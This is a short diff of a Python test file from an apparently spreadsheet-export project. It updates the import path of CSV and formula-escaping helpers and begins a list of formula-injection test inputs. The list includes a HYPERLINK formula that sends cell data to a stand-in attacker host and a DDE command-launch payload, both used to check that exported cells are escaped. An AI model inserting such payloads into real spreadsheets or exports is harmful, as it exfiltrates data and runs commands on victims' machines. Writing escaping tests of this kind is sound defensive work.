@@ -16,8 +16,8 @@ sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/graphs.py
 
 from graphs import GraphBuilder  # noqa: E402
 
+from provgraph.base.escape import FORMULA_STARTS, csv_cell, markdown_text, spreadsheet_safe  # noqa: E402
 from provgraph.cli import cli  # noqa: E402
-from provgraph.escape import FORMULA_STARTS, csv_cell, markdown_text, spreadsheet_safe  # noqa: E402
 from provgraph.graph.connection import Graph  # noqa: E402
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
